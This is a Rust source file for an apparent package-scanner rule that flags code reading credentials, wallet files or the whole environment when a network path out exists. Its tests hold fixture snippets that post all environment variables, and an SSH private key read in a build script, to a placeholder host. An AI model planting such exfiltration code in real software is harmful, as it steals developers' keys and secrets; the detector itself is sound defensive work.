//! `secrets-out`: Secrets with a way out.

use crate::report::{Place, Severity};
use crate::rules::{Explanation, Hit, Look, Rule, WAY, hit};
use crate::sign::Sign;

pub(super) const RULE: Rule = Rule {
    explanation: Explanation {
        code: "secrets-out",
        techniques: &["A5", "A6", "A12"],
        means: "Credentials or the whole environment are read, and there is a way out for them.",
        look: "Whether what is read is what is sent, and to whom. Clients of a service read its own credentials; hardly any code needs those of several.",
    },
    needs: &[Sign::CredentialPath, Sign::WalletPath, Sign::EnvAll, Sign::SecretName, Sign::HiddenPath],
    judge,
};

fn judge(look: &Look<'_>) -> Option<Hit> {
    let out = look.reaches_out() || look.any(&[Sign::Dns, Sign::HiddenUrl]);
    if !out {
        return None;
    }
    let build = look.is_build();
    let files = look.any(&[Sign::FsRead, Sign::FsWalk])
        && look.any(&[Sign::CredentialPath, Sign::WalletPath, Sign::HiddenPath]);
    let environment = look.has(Sign::EnvAll);
    let named = look.has(Sign::SecretName) && look.has(Sign::Env);
    if !files && !environment {
        if named && build {
            return hit(
                Severity::Medium,
                &[Sign::SecretName],
                WAY,
                format!(
                    "{} reads a variable in which a secret is, and uses the network",
                    look.where_it_runs()
                ),
            );
        }
        return None;
    }
    let several = look.has(Sign::CredentialPath) && look.has(Sign::WalletPath);
    let searched = look.has(Sign::FsWalk) && look.has(Sign::Home);
    let severity = match () {
        () if build
            && look.scope.place == Place::ProcMacro
            && !environment
            && !several
            && !look.has(Sign::WalletPath) =>
        {
            Severity::Medium
        }
        () if build && (files || look.has(Sign::Send) || look.hides()) => Severity::High,
        () if build => Severity::Medium,
        () if look.hides() || look.has(Sign::HiddenPath) => Severity::High,
        () if several && look.has(Sign::Send) && look.is_close() => Severity::High,
        () if files && (look.is_close() || searched || several) => Severity::Medium,
        () if environment && look.any(&[Sign::Send, Sign::Dns, Sign::HiddenUrl]) => Severity::Medium,
        () => Severity::Low,
    };
    hit(
        severity,
        &[Sign::CredentialPath, Sign::WalletPath, Sign::EnvAll, Sign::FsRead],
        WAY,
        format!(
            "{} reads {} and can send it away",
            look.where_it_runs(),
            if files { "files in which credentials are" } else { "the whole environment" }
        ),
    )
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::Severity;
    use crate::rules::fixture::{fires, is_quiet};

    #[test]
    fn it_fires() {
        fires(
            &RULE,
            "src/lib.rs",
            r##"fn all() -> String { std::env::vars_os().map(|(k, v)| format!("{k:?}={v:?};")).collect() }
pub fn init() { let _ = ureq::post("https://a.example/t").send_string(&all()); }"##,
            Severity::Medium,
        );
        fires(
            &RULE,
            "build.rs",
            r##"use std::{env as e, fs as f};
fn main() {
    let key = f::read_to_string(format!("{}/.ssh/id_ed25519", e::var("HOME").unwrap())).unwrap();
    let _ = reqwest::blocking::Client::new().post("https://a.example").body(key).send();
}"##,
            Severity::High,
        );
    }

    #[test]
    fn look_alikes_are_left_alone() {
        is_quiet(
            &RULE,
            "src/lib.rs",
            r##"pub fn client() -> String {
    let token = std::env::var("GITHUB_TOKEN").unwrap();
    ureq::get("https://api.example/user").set("authorization", &token).call().unwrap().into_string().unwrap()
}"##,
        );
        is_quiet(
            &RULE,
            "src/lib.rs",
            r##"pub fn all() -> Vec<(String, String)> { std::env::vars().collect() }"##,
        );
    }
}
